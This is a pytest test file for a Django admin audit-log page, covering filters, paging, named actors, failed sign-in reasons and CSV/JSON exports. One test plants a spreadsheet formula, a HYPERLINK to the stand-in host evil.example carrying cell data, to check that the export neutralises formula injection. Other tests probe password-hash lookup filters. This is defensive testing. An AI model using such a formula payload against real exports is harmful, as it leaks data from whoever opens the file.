"""The audit page: one log with names, what changed, why a sign-in failed; its filters are its address; files of it."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from idp.http.requests import RequestFacts
from idp.models import User
from sessions_app.audit import export, trail
from sessions_app.audit.events import EventType
from sessions_app.models import SessionEvent
from tests.protocol.admin.conftest import clerk_with
from tests.support.factories import make_application, make_connection, make_session, make_user

pytestmark = pytest.mark.django_db
URL = "admin:sessions_app_sessionevent_changelist"
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0"


@pytest.fixture
def lines(boss: User) -> dict[str, SessionEvent]:
    """One of each kind of question, an hour between two."""
    mary, bob, okta = make_user(name="Mary Major"), make_user("bob@acme.example"), make_connection("okta-main", "okta")
    application, at = make_application("Timesheet SaaS"), timezone.now()
    here, there = RequestFacts("203.0.113.7", FIREFOX), RequestFacts("2001:db8::7", "curl/8")
    by_boss = f"admin:{boss.user_id}"
    changes = [{"what": "name", "from": "Timesheet", "to": "Timesheet SaaS"}]
    recorded = {
        "joined": trail.line(EventType.JOINED, at=at, session=make_session(mary), application=application, facts=here),
        "failed": trail.line(EventType.SIGN_IN_FAILED, at=at, user=bob, connection=okta, facts=there),
        "unknown": trail.line(EventType.SIGN_IN_FAILED, at=at, connection=okta, facts=there),
        "blocked": trail.line(EventType.SIGN_IN_FAILED, at=at, user=bob, connection=okta, data={"reason": "blocked"}),
        "changed": trail.line(
            EventType.APPLICATION_CHANGED, at=at, application=application, actor=by_boss, data={"changes": changes}
        ),
    }
    for hours, line in enumerate(recorded.values()):
        line.at = at - timedelta(hours=hours, minutes=30)
    for line in recorded.values():
        line.save()
    return recorded


def shown(client: Client, **query: str) -> list[Any]:
    answer = client.get(reverse(URL), query)
    assert answer.status_code == 200, answer.content.decode()
    return [entry["line"] for entry in answer.context.get("lines", ())]


def keys(client: Client, **query: str) -> set[int]:
    return {line.row.pk for line in shown(client, **query)}


def text(client: Client, **query: str) -> str:
    return re.sub(r"\s+", " ", client.get(reverse(URL), query).content.decode())


# --- what it says --------------------------------------------------------------------------------------------------------
def test_names_stand_beside_ids_and_lead_to_their_pages(
    admin: Client, lines: dict[str, SessionEvent], boss: User
) -> None:
    mary = User.objects.get(email="mary@fabrikamcorp.com")
    page = text(admin)
    assert (
        f'<a href="/admin/idp/user/{mary.pk}/change/">mary@fabrikamcorp.com</a> <span class="id">{mary.user_id}</span>'
        in page
    )
    assert ">Timesheet SaaS</a>" in page
    assert f'administrator <a href="/admin/idp/user/{boss.pk}/change/">boss@fabrikamcorp.com</a>' in page
    assert "Firefox on Linux" in page


def test_what_changed_is_shown_from_what_to_what(admin: Client, lines: dict[str, SessionEvent]) -> None:
    assert "<b>name</b> from <del>Timesheet</del> to <ins>Timesheet SaaS</ins>" in text(
        admin, type="application_changed"
    )
    one = text(admin)
    assert one.count("<del>") == 1
    page = admin.get(reverse("admin:sessions_app_sessionevent_change", args=(lines["changed"].pk,))).content.decode()
    assert "name: from Timesheet to Timesheet SaaS" in page
    assert "boss@fabrikamcorp.com" in page


def test_a_failed_sign_in_says_why(admin: Client, lines: dict[str, SessionEvent]) -> None:
    reasons = {line.row.pk: line.reason for line in shown(admin, type="sign_in_failed")}
    assert reasons == {
        lines["failed"].pk: "The password was wrong.",
        lines["unknown"].pk: "Nobody here signs in by what was typed.",
        lines["blocked"].pk: "blocked",
    }


def test_who_was_deleted_is_an_id_and_no_link(admin: Client, lines: dict[str, SessionEvent]) -> None:
    bob = User.objects.get(email="bob@acme.example")
    sub = bob.user_id
    bob.delete()
    page = text(admin, person=sub)
    assert sub in page
    assert "bob@acme.example" not in page
    assert len(shown(admin, person=sub)) == 2


def test_data_of_another_release_breaks_nothing(admin: Client, lines: dict[str, SessionEvent]) -> None:
    for data in (
        [1, 2],
        "text",
        {"changes": "many"},
        {"changes": [1, {"what": 3}]},
        {"deep": {"a": [True, None]}},
    ):
        line = SessionEvent.objects.create(type="moon_full", actor="moon", data=data)
        assert line.pk in keys(admin)
        assert admin.get(reverse("admin:sessions_app_sessionevent_change", args=(line.pk,))).status_code == 200
    assert "Moon full" in text(admin)
    for wanted in ("csv", "json"):
        assert b"".join(admin.get(reverse(URL), {"format": wanted}).streaming_content)


# --- filters ---------------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("query", "found"),
    [
        ({"person": "mary@fabrikamcorp.com"}, ("joined",)),
        ({"person": "Mary Major"}, ("joined",)),
        ({"person": "bob@acme.example"}, ("failed", "blocked")),
        ({"person": "nobody"}, ()),
        ({"application": "timesheet"}, ("joined", "changed")),
        ({"application": "timesheet-saas"}, ("joined", "changed")),
        ({"connection": "OKTA-main"}, ("failed", "unknown", "blocked")),
        ({"type": "joined"}, ("joined",)),
        ({"group": "sign-in"}, ("failed", "unknown", "blocked")),
        ({"ip": "2001:0db8:0::7"}, ("failed", "unknown")),
        ({"ip": "203.0.113.7"}, ("joined",)),
        ({"by": "boss@fabrikamcorp.com"}, ("changed",)),
        ({"q": "okta-main", "person": "bob@acme.example"}, ("failed", "blocked")),
        ({"within": "hour"}, ("joined",)),
        ({"within": "day"}, ("joined", "failed", "unknown", "blocked", "changed")),
        ({"connection": "okta-main", "within": "hour"}, ()),
    ],
    ids=str,
)  # fmt: skip
def test_lines_are_filtered(
    admin: Client, lines: dict[str, SessionEvent], query: dict[str, str], found: tuple[str, ...]
) -> None:
    assert keys(admin, **query) == {lines[name].pk for name in found}


def test_times_that_are_typed_go_before_a_span_until_now(admin: Client, lines: dict[str, SessionEvent]) -> None:
    since, until = (timezone.now() - timedelta(hours=hours) for hours in (2, 1))
    query = {"from": since.isoformat(), "until": until.isoformat()}
    assert keys(admin, **query) == {lines["failed"].pk}
    assert keys(admin, **query, within="hour") == {lines["failed"].pk}


@pytest.mark.parametrize(
    "query",
    [
        {"from": "yesterday"},
        {"from": "0001-01-01T00:00:00+14:00"},
        {"until": "9999-12-31T23:59:59-14:00"},
        {"from": "2026-01-02T00:00", "until": "2026-01-01T00:00"},
        {"type": "nothing"},
        {"group": "nothing"},
        {"ip": "203.0.113"},
        {"within": "century"},
        {"before": "x"},
        {"before": "9" * 19},
        {"before": "-1"},
        {"format": "xml"},
        {"user__password__startswith": "pbkdf2"},
        {"actor__contains": "admin"},
        {"person": "x" * 400},
        {"person": "a\0b"},
    ],
    ids=str,
)
def test_what_is_no_filter_is_refused_and_never_left_out(
    admin: Client, lines: dict[str, SessionEvent], query: dict[str, str]
) -> None:
    answer = admin.get(reverse(URL), query)
    assert answer.status_code == 400
    assert "Timesheet" not in answer.content.decode()
    assert admin.get(reverse(URL), {"format": "json", **query}).status_code == 400


def test_the_address_keeps_the_filters_wherever_one_goes(admin: Client, lines: dict[str, SessionEvent]) -> None:
    page = admin.get(reverse(URL), {"person": "bob@acme.example", "type": "", "within": "day"}).content.decode()
    links = re.findall(r'href="(\?[^"]*)"', page)
    assert links
    kept = [link for link in links if link != "?"]
    assert all("person=bob%40acme.example" in link for link in kept)
    assert not any("type=" in link for link in kept)
    assert 'value="bob@acme.example"' in page
    assert '<input type="hidden" name="within" value="day"' in page


def test_older_lines_follow_page_by_page_and_none_is_missing_or_twice(admin: Client, boss: User) -> None:
    for number in range(120):
        SessionEvent.objects.create(type="joined", sub=f"auth0|{number}")
    found: list[int] = []
    query = {"type": "joined"}
    for expected in (50, 50, 20):
        answer = admin.get(reverse(URL), query)
        rows = [entry["line"].row.pk for entry in answer.context["lines"]]
        assert len(rows) == expected
        found += rows
        older = re.search(r"before=(\d+)", answer.context["older"])
        query = {"type": "joined", "before": older[1]} if older else {}
    assert query == {}
    assert found == sorted(set(found), reverse=True)
    assert len(found) == 120


def test_the_page_asks_the_same_number_of_questions_however_many_lines_there_are(admin: Client, boss: User) -> None:
    def count() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert admin.get(reverse(URL)).status_code == 200
        return len(captured)

    SessionEvent.objects.create(
        type="joined", sub="auth0|1", client_id="c1", connection="x", actor=f"admin:{boss.user_id}"
    )
    few = count()
    for number in range(40):
        person = make_user(f"p{number}@acme.example")
        application, source = make_application(f"App {number}"), make_connection(f"source-{number}")
        SessionEvent.objects.create(
            type="ended", sub=person.user_id, client_id=application.client_id, connection=source.name,
            actor=f"admin:{person.user_id}", data={"event": number},
        )  # fmt: skip
    assert count() == few


# --- files -----------------------------------------------------------------------------------------------------------------
def file(client: Client, wanted: str, **query: str) -> tuple[str, Any]:
    answer = client.get(reverse(URL), {**query, "format": wanted})
    assert answer.status_code == 200
    assert answer.streaming
    assert re.fullmatch(
        r'attachment; filename="curfew-audit-\d{8}T\d{6}Z(-newest-\d+)?\.\w+"', answer["Content-Disposition"]
    )
    assert answer["Cache-Control"]
    return b"".join(answer.streaming_content).decode(), answer


def test_csv_and_json_have_what_the_filters_find_with_names_reasons_and_changes(
    admin: Client, lines: dict[str, SessionEvent], boss: User
) -> None:
    body, _ = file(admin, "csv", application="timesheet")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["type"] for row in rows] == ["application_changed", "joined"]
    assert rows[0]["changes"] == "name from Timesheet to Timesheet SaaS"
    assert (rows[0]["actor_name"], rows[0]["actor"]) == ("boss@fabrikamcorp.com", f"admin:{boss.user_id}")
    assert rows[1]["person"] == "mary@fabrikamcorp.com"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", rows[1]["at"])
    body, _ = file(admin, "json", group="sign-in")
    document = json.loads(body)
    assert (document["complete"], document["next"]) == (True, None)
    assert [line["reason"] for line in document["lines"]] == [
        "blocked", "Nobody here signs in by what was typed.", "The password was wrong.",
    ]  # fmt: skip
    assert document["lines"][2]["person"] == "bob@acme.example"


@pytest.mark.parametrize("begin", list(export.FORMULA))
def test_a_spreadsheet_runs_nothing_that_somebody_wrote_into_the_log(admin: Client, begin: str) -> None:
    evil = f'{begin}HYPERLINK("https://evil.example?"&A1)'
    SessionEvent.objects.create(type="joined", user_agent=evil, client_id=evil, connection=evil, actor=evil)
    body, _ = file(admin, "csv", type="joined")
    (row,) = csv.DictReader(io.StringIO(body, newline=""))
    assert not [name for name, value in row.items() if value.startswith(begin)]
    assert row["user_agent"].removeprefix("'") == evil
    document = json.loads(file(admin, "json", type="joined")[0])
    assert document["lines"][0]["user_agent"] == evil


def test_a_file_is_made_in_steps_has_an_end_and_says_where_the_next_one_begins(
    admin: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "MOST", 30)
    monkeypatch.setattr(export, "STEP", 7)
    for number in range(70):
        SessionEvent.objects.create(type="joined", sub=f"auth0|{number}")
    subs, query = [], {"type": "joined"}
    for expected in (30, 30, 10):
        with CaptureQueriesContext(connection) as captured:
            body, answer = file(admin, "json", **query)
        assert all(
            "LIMIT 7" in q["sql"] or "LIMIT 2" in q["sql"]
            for q in captured
            if "ORDER BY" in q["sql"] and "sessionevent" in q["sql"]
        )
        document = json.loads(body)
        assert len(document["lines"]) == expected
        assert document["complete"] == (expected == 10) == ("Link" not in answer)
        subs += [line["sub"] for line in document["lines"]]
        if document["next"]:
            assert document["next"] in answer["Link"]
            assert "newest-30" in answer["Content-Disposition"]
            query["before"] = re.search(r"before=(\d+)", document["next"])[1]  # type: ignore[index]
    assert subs == [f"auth0|{number}" for number in reversed(range(70))]


def test_a_file_begins_before_its_end_is_read(admin: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "STEP", 5)
    for number in range(20):
        SessionEvent.objects.create(type="joined", sub=f"auth0|{number}")
    pieces: Iterator[bytes] = iter(admin.get(reverse(URL), {"type": "joined", "format": "csv"}).streaming_content)
    with CaptureQueriesContext(connection) as captured:
        assert next(pieces).count(b"\r\n") == 6
    assert len([q for q in captured if "sessionevent" in q["sql"]]) == 1


def test_whoever_takes_the_log_away_is_in_it(admin: Client, lines: dict[str, SessionEvent], boss: User) -> None:
    file(admin, "csv")
    line = SessionEvent.objects.get(type="administered")
    assert (line.actor, line.data["act"]) == (f"admin:{boss.user_id}", "Exported the audit trail as CSV")


def test_only_who_may_see_the_log_takes_it_away(lines: dict[str, SessionEvent]) -> None:
    clerk = clerk_with("view_user", "change_user", "view_application")
    for query in ({}, {"format": "csv"}, {"format": "json"}):
        assert clerk.get(reverse(URL), query).status_code == 403
    allowed = clerk_with_log()
    assert allowed.get(reverse(URL)).status_code == 200
    assert '<a href="/admin/idp/user/' not in allowed.get(reverse(URL)).content.decode()
    assert allowed.post(reverse(URL), {"action": "delete_selected"}).status_code == 405


def clerk_with_log() -> Client:
    User.objects.filter(email="clerk@elsewhere.example").delete()
    return clerk_with("view_sessionevent")
